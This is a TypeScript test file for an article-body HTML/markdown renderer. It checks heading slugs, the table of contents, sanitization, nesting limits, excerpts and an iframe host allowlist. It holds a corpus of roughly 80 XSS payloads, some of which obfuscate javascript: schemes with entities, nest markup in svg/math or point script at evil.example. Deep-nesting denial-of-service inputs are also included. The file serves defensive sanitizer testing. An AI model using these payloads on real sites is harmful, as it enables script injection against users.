import t, { type Test } from 'tap'
import { deriveExcerpt, MAX_NESTING, NestingTooDeep, renderArticleBody } from '../../src/lib/content/article-body.js'

const YOUTUBE = 'www.youtube.com'

t.test('headings get unique slug ids and a toc in document order', async (t) => {
  const body = [
    '# Hello World',
    'intro',
    '## Hello World',
    '### Déjà Vu!',
    '## Hello World',
    '#### ???',
    '##### 日本語',
    '###### Q&amp;A &lt;tips&gt;',
    '## Hello World 2',
  ].join('\n\n')
  const { html, toc } = renderArticleBody(body, 'markdown')

  t.same(toc, [
    { id: 'hello-world', text: 'Hello World', level: 1 },
    { id: 'hello-world-2', text: 'Hello World', level: 2 },
    { id: 'deja-vu', text: 'Déjà Vu!', level: 3 },
    { id: 'hello-world-3', text: 'Hello World', level: 2 },
    { id: 'section', text: '???', level: 4 },
    { id: 'section-2', text: '日本語', level: 5 },
    { id: 'q-and-a-tips', text: 'Q&A <tips>', level: 6 },
    // Its natural slug was already taken by the second "Hello World".
    { id: 'hello-world-2-2', text: 'Hello World 2', level: 2 },
  ])
  t.match(html, '<h1 id="hello-world">Hello World</h1>')
  t.match(html, '<h6 id="q-and-a-tips">Q&amp;A &lt;tips&gt;</h6>')
  const ids = [...html.matchAll(/<h[1-6] id="([^"]+)">/g)].map((m) => m[1])
  t.same(ids, toc.map((entry) => entry.id), 'every heading carries its toc id')
})

t.test('source heading ids and attributes are replaced by ours', async (t) => {
  const body = '<h2 id="user-content" class="x" onclick="alert(1)">Intro <em>part</em></h2><h3 id="intro-part">Intro part</h3>'
  for (const format of ['html', 'markdown'] as const) {
    const { html, toc } = renderArticleBody(body, format)
    t.match(html, '<h2 id="intro-part">Intro <em>part</em></h2>', format)
    t.match(html, '<h3 id="intro-part-2">Intro part</h3>', format)
    t.notMatch(html, /user-content|class=|onclick/, format)
    t.same(toc.map((e) => [e.id, e.level]), [['intro-part', 2], ['intro-part-2', 3]], format)
  }
})

t.test('nested headings in malformed html each get an id from their own text', async (t) => {
  const { html, toc } = renderArticleBody('<h2>Outer<h3>Inner</h3></h2>', 'html')
  t.same(toc, [
    { id: 'outer', text: 'Outer', level: 2 },
    { id: 'inner', text: 'Inner', level: 3 },
  ])
  t.match(html, '<h2 id="outer">Outer<h3 id="inner">Inner</h3></h2>')
})

t.test('bodies nesting elements past MAX_NESTING are refused; as many elements that close are not', async (t) => {
  for (const format of ['html', 'markdown'] as const) {
    // 12,000 nested headings ran the server out of memory; 160,000 nested <b> held it ~19 s.
    t.throws(() => renderArticleBody('<h2>'.repeat(12_000) + 'x', format), new NestingTooDeep(), `${format}: nested headings`)
    t.throws(() => renderArticleBody('<b>'.repeat(160_000) + 'x', format), new NestingTooDeep(), `${format}: nested inline tags`)
    t.throws(() => renderArticleBody('<div>'.repeat(MAX_NESTING + 1) + 'x', format), new NestingTooDeep(), `${format}: one past the limit`)
    const deepest = renderArticleBody('<div>'.repeat(MAX_NESTING) + 'x', format)
    t.match(deepest.html, /x(<\/div>){256}$/, `${format}: the limit itself renders`)
  }
  // Elements that close themselves or each other never add up to depth.
  const flat = renderArticleBody('<p>a'.repeat(2_000) + '<div>' + 'b<br>'.repeat(2_000) + '<img src="https://example.com/a.png">'.repeat(500) + '<ul>' + '<li>a'.repeat(2_000), 'html')
  t.equal(flat.wordCount, 6_000)
  const headings = renderArticleBody('<h2>t</h2>'.repeat(5_000), 'html')
  t.equal(headings.toc.length, 5_000)
})

t.test('a heading id is at most 100 characters, cut at a hyphen', async (t) => {
  const words = Array.from({ length: 60 }, (_, i) => `word${i}`).join(' ')
  const { toc } = renderArticleBody(`## ${words}\n\n## ${words}`, 'markdown')
  t.ok(toc[0].id.length <= 100 && toc[0].id.length > 50, toc[0].id)
  t.match(toc[0].id, /^word0-word1-.*-word\d+$/)
  t.equal(toc[1].id.length <= 100 ? toc[1].id.endsWith('-2') : false, true, toc[1].id)
  const long = renderArticleBody(Array.from({ length: 12 }, () => `## ${'a'.repeat(120)}`).join('\n\n'), 'markdown').toc.map((entry) => entry.id)
  t.same(long.filter((id) => id.length > 100), [], 'suffixed ids stay within 100 characters too')
  t.equal(new Set(long).size, 12, 'and stay unique')
  t.equal(toc[0].text, words, 'the toc keeps the whole text')
})

t.test('markdown tables, lists, code and links are kept', async (t) => {
  const body = [
    '| Name | Qty |',
    '|:-----|----:|',
    '| Tea  | 2   |',
    '',
    '- one',
    '- two',
    '',
    '1. first',
    '2. second',
    '',
    '```js',
    'if (a < b && c) console.log("<b>");',
    '```',
    '',
    'Inline `x<y`, **bold**, _em_, ~~gone~~, [site](https://example.com "Title") and https://example.org.',
    '',
    '> quoted',
    '',
    '---',
  ].join('\n')
  const { html } = renderArticleBody(body, 'markdown')
  t.match(html, /<table>\s*<thead>\s*<tr>\s*<th>Name<\/th>\s*<th>Qty<\/th>/)
  t.match(html, /<tbody>\s*<tr>\s*<td>Tea<\/td>\s*<td>2<\/td>/)
  t.notMatch(html, /style=/, 'alignment styles are stripped')
  t.match(html, /<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/)
  t.match(html, /<ol>\s*<li>first<\/li>/)
  t.match(html, '<pre><code class="language-js">if (a &lt; b &amp;&amp; c) console.log("&lt;b&gt;");\n</code></pre>')
  t.match(html, '<code>x&lt;y</code>')
  t.match(html, '<strong>bold</strong>')
  t.match(html, '<em>em</em>')
  t.match(html, '<s>gone</s>')
  t.match(html, '<a href="https://example.com" title="Title">site</a>')
  t.match(html, '<a href="https://example.org">https://example.org</a>.', 'linkify on')
  t.match(html, /<blockquote>\s*<p>quoted<\/p>\s*<\/blockquote>/)
  t.match(html, '<hr />')
  t.notMatch(html, /target=/)
})

t.test('html format is sanitized but keeps article markup', async (t) => {
  const body = [
    '<h2 style="color:red">Title</h2>',
    '<figure><img src="https://cdn.example.com/a.png" alt="A" width="640" height="480" loading="lazy" srcset="x.png 2x"><figcaption>Cap <sup>1</sup> <sub>2</sub></figcaption></figure>',
    '<p class="lead">Text with <a href="/relative/path" rel="author" target="_blank">a link</a>, <a href="mailto:ed@example.com">mail</a>, <a href="#top">anchor</a><br>next line.</p>',
    '<table><caption>T</caption><tr><td colspan="2">x</td></tr></table>',
    '<p>Raw **markdown** stays literal.</p>',
  ].join('\n')
  const { html, toc, text } = renderArticleBody(body, 'html')
  t.same(toc, [{ id: 'title', text: 'Title', level: 2 }])
  t.match(html, '<h2 id="title">Title</h2>')
  t.match(html, '<img src="https://cdn.example.com/a.png" alt="A" width="640" height="480" />')
  t.match(html, '<figcaption>Cap <sup>1</sup> <sub>2</sub></figcaption>')
  t.match(html, '<a href="/relative/path" rel="author">a link</a>')
  t.match(html, '<a href="mailto:ed@example.com">mail</a>')
  t.match(html, '<a href="#top">anchor</a><br />next line.')
  t.match(html, '<td colspan="2">x</td>')
  t.match(html, '<p>Raw **markdown** stays literal.</p>')
  t.notMatch(html, /style=|class=|target=|loading=|srcset=/)
  t.equal(text, 'Title Cap 1 2 Text with a link, mail, anchor next line. T x Raw **markdown** stays literal.')
})

t.test('stray svg/object markup does not swallow the rest of the article', async (t) => {
  const { html } = renderArticleBody('<p>Icon <svg/onload=alert(1)> one</p><object data="x.swf">fallback</object><p>two</p>', 'html')
  t.equal(html, '<p>Icon  one</p>fallback<p>two</p>')
})

t.test('plain text decodes entities, separates blocks and keeps inline words whole', async (t) => {
  const { text, wordCount } = renderArticleBody(
    '<p>Fish &amp; chips &lt;3&nbsp;&quot;q&quot;</p><p>foo<em>bar</em></p><ul><li>one</li><li>two</li></ul>\n\n\t<p>  spaced   out </p>',
    'html',
  )
  t.equal(text, 'Fish & chips <3 "q" foobar one two spaced out')
  t.equal(wordCount, 9, '"&" is not a word; "<3" and "q" are')
})

t.test('wordCount and readingTimeMinutes', async (t) => {
  const words = (n: number) => Array.from({ length: n }, (_, i) => `word${i}`).join(' ')
  t.equal(renderArticleBody(words(231), 'markdown').wordCount, 231)
  t.equal(renderArticleBody(words(231), 'markdown').readingTimeMinutes, 2)
  t.equal(renderArticleBody(words(230), 'markdown').readingTimeMinutes, 1)
  t.equal(renderArticleBody(words(461), 'markdown').readingTimeMinutes, 3)

  const empty = renderArticleBody('', 'markdown')
  t.same(empty, { html: '', toc: [], text: '', wordCount: 0, readingTimeMinutes: 1, excerpt: '' })

  const unicode = renderArticleBody('naïve café — Привет 日本語 42 -- !!! ...', 'markdown')
  t.equal(unicode.wordCount, 5, 'punctuation-only tokens are not words')
})

t.test('deriveExcerpt', async (t) => {
  t.equal(deriveExcerpt('  Short\n\n text  '), 'Short text', 'short text is only collapsed')
  const exact = 'a'.repeat(160)
  t.equal(deriveExcerpt(exact), exact, 'exactly max length is not cut')

  const long = 'The quick brown fox jumps over the lazy dog. '.repeat(10)
  const excerpt = deriveExcerpt(long)
  t.ok(excerpt.length <= 160, `length ${excerpt.length} <= 160`)
  t.ok(excerpt.endsWith('…'))
  const kept = excerpt.slice(0, -1)
  t.ok(long.startsWith(kept), 'is a prefix of the text')
  t.match(long.slice(kept.length), /^[\s.,]/, 'cut at a word boundary')

  t.equal(deriveExcerpt('one two three four', 10), 'one two…')
  t.equal(deriveExcerpt('one two, three four', 13), 'one two…', 'trailing punctuation dropped before the ellipsis')
  t.equal(deriveExcerpt('one two three', 8), 'one two…', 'word ending exactly at the budget is kept')
  t.equal(deriveExcerpt('abcdefghijklmnop', 6), 'abcde…', 'a single long word is hard cut')
  t.equal(deriveExcerpt('ab😀cdef', 4), 'ab…', 'never splits a surrogate pair')
  t.equal(deriveExcerpt('one\n\ttwo   three four five', 14), 'one two three…')
  t.equal(deriveExcerpt(long, Number.NaN), deriveExcerpt(long), 'invalid max length falls back to the default')

  const rendered = renderArticleBody(`# Heading\n\n${long}`, 'markdown')
  t.equal(rendered.excerpt, deriveExcerpt(rendered.text))
  t.ok(rendered.excerpt.startsWith('Heading The quick brown fox'))
})

t.test('iframes only for allowlisted https hosts', async (t) => {
  const embed = '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" frameborder="0" allowfullscreen title="Video" style="x" onload="alert(1)" sandbox="allow-scripts" allow="autoplay">fallback</iframe>'
  t.equal(renderArticleBody(embed, 'html').html, '', 'removed by default, with its content')

  const kept = renderArticleBody(embed, 'html', { iframeHosts: ['WWW.YouTube.com'] }).html
  t.equal(kept, '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" frameborder="0" allowfullscreen title="Video">fallback</iframe>')

  const rejected = [
    'http://www.youtube.com/embed/abc',
    '//www.youtube.com/embed/abc',
    'https://youtube.com/embed/abc',
    'https://www.youtube.com.evil.com/embed/abc',
    'https://www.youtube.com@evil.com/',
    'https://evil.com\\@www.youtube.com/',
    'javascript:alert(1)',
    '/embed/abc',
    '',
  ]
  for (const src of rejected) {
    const out = renderArticleBody(`<p>a</p><iframe src="${src}">x</iframe><p>b</p>`, 'html', { iframeHosts: [YOUTUBE] })
    t.equal(out.html, '<p>a</p><p>b</p>', `src ${JSON.stringify(src)} is removed`)
  }
  const inMarkdown = renderArticleBody(`Watch:\n\n${embed}\n`, 'markdown', { iframeHosts: [YOUTUBE] })
  t.match(inMarkdown.html, '<iframe src="https://www.youtube.com/embed/abc"')
})

// ---------------------------------------------------------------------------
// XSS corpus. Every vector is rendered as markdown and as html, with and
// without an iframe allowlist, and the output is checked structurally.

const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://ok.example/a.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example/" onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="javascript:alert(1)"',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"><param name="x" value="y"></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">',
  '<form action="javascript:alert(1)"><input type="submit"><button formaction="javascript:alert(1)">go</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<h2 id="x" onmouseover="alert(1)">Title</h2>',
  '<a href="https://ok.example/" title="&quot; onmouseover=&quot;alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://ok.example/a.png)',
  '[x](https://ok.example/"onmouseover="alert(1))',
]

const FORBIDDEN_TAGS = new Set([
  'script', 'object', 'embed', 'form', 'style', 'input', 'textarea', 'button', 'base',
  'meta', 'link', 'svg', 'math', 'iframe', 'frame', 'frameset', 'applet', 'param', 'select',
  'option', 'isindex', 'noscript', 'template', 'title', 'xmp', 'body', 'html', 'marquee',
  'details', 'video', 'audio', 'source',
])

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  iframe: ['src', 'width', 'height', 'allowfullscreen', 'title', 'frameborder'],
  code: ['class'],
  abbr: ['title'],
  ol: ['start'],
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  h1: ['id'], h2: ['id'], h3: ['id'], h4: ['id'], h5: ['id'], h6: ['id'],
}

const NAMED_ENTITIES: Record<string, string> = {
  amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n', nbsp: '\u00a0',
}

/** Generous decoder so entity tricks cannot hide a scheme from the assertions. */
function decodeEntities(value: string): string {
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (whole, body: string) => {
    if (body[0] === '#') {
      const code = body[1] === 'x' || body[1] === 'X' ? parseInt(body.slice(2), 16) : parseInt(body.slice(1), 10)
      return Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : whole
    }
    return NAMED_ENTITIES[body.toLowerCase()] ?? whole
  })
}

const TAG = /<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g
const ATTRIBUTE = /([^\s"'=<>`/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g

function checkSafe(t: Test, html: string, iframeHosts: string[]): void {
  t.notMatch(html, /<script/i, 'no <script')
  for (const [tag, rawName, rawAttributes] of html.matchAll(TAG)) {
    const name = rawName.toLowerCase()
    // Quoted values are blanked first: `title="&quot; onclick=&quot;"` is inert text.
    const unquoted = tag.replace(/"[^"]*"|'[^']*'/g, '""')
    t.notOk(/\son[a-z]+\s*=/i.test(unquoted), `no event handler in ${tag}`)
    const isIframe = name === 'iframe'
    t.ok(!FORBIDDEN_TAGS.has(name) || (isIframe && iframeHosts.length > 0), `tag <${name}> allowed`)
    for (const [, attrName, dq, sq, bare] of rawAttributes.matchAll(ATTRIBUTE)) {
      const attr = attrName.toLowerCase()
      t.ok(ALLOWED_ATTRIBUTES[name]?.includes(attr), `attribute ${attr} allowed on <${name}>`)
      if (attr !== 'href' && attr !== 'src') continue
      // Browsers ignore control characters and spaces when reading a scheme.
      // eslint-disable-next-line no-control-regex
      const url = decodeEntities(dq ?? sq ?? bare ?? '').replace(/[\u0000-\u0020]/g, '').toLowerCase()
      t.notMatch(url, /javascript:|vbscript:|data:/, `safe ${attr}: ${url}`)
      t.notMatch(url, /^[/\\]{2}/, `${attr} is not protocol-relative`)
      t.ok(/^(https?:|mailto:)/.test(url) || !/^[a-z][a-z0-9+.-]*:/.test(url), `${attr} scheme allowed: ${url}`)
      if (isIframe) {
        t.ok(iframeHosts.includes(new URL(url).hostname) && url.startsWith('https:'), `iframe host allowed: ${url}`)
      }
    }
  }
}

t.test(`XSS corpus (${XSS_VECTORS.length} vectors)`, async (t) => {
  t.ok(XSS_VECTORS.length >= 40)
  for (const vector of XSS_VECTORS) {
    for (const format of ['markdown', 'html'] as const) {
      for (const iframeHosts of [[], [YOUTUBE]]) {
        const label = `${format}${iframeHosts.length ? ' +iframes' : ''}: ${JSON.stringify(vector)}`
        t.test(label, async (t) => {
          // Also wrapped in article text, as it would appear in practice.
          for (const body of [vector, `# Title\n\nSome text ${vector} more\n\n<p>after</p>`]) {
            const { html, toc } = renderArticleBody(body, format, { iframeHosts })
            checkSafe(t, html, iframeHosts)
            for (const entry of toc) t.match(entry.id, /^[\p{L}\p{N}-]+$/u, 'toc id is a bare slug')
          }
        })
      }
    }
  }
})

t.test('an allowlisted embed passes the same safety check', async (t) => {
  const { html } = renderArticleBody('<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', 'html', { iframeHosts: [YOUTUBE] })
  t.match(html, '<iframe src="https://www.youtube.com/embed/x">')
  checkSafe(t, html, [YOUTUBE])
})
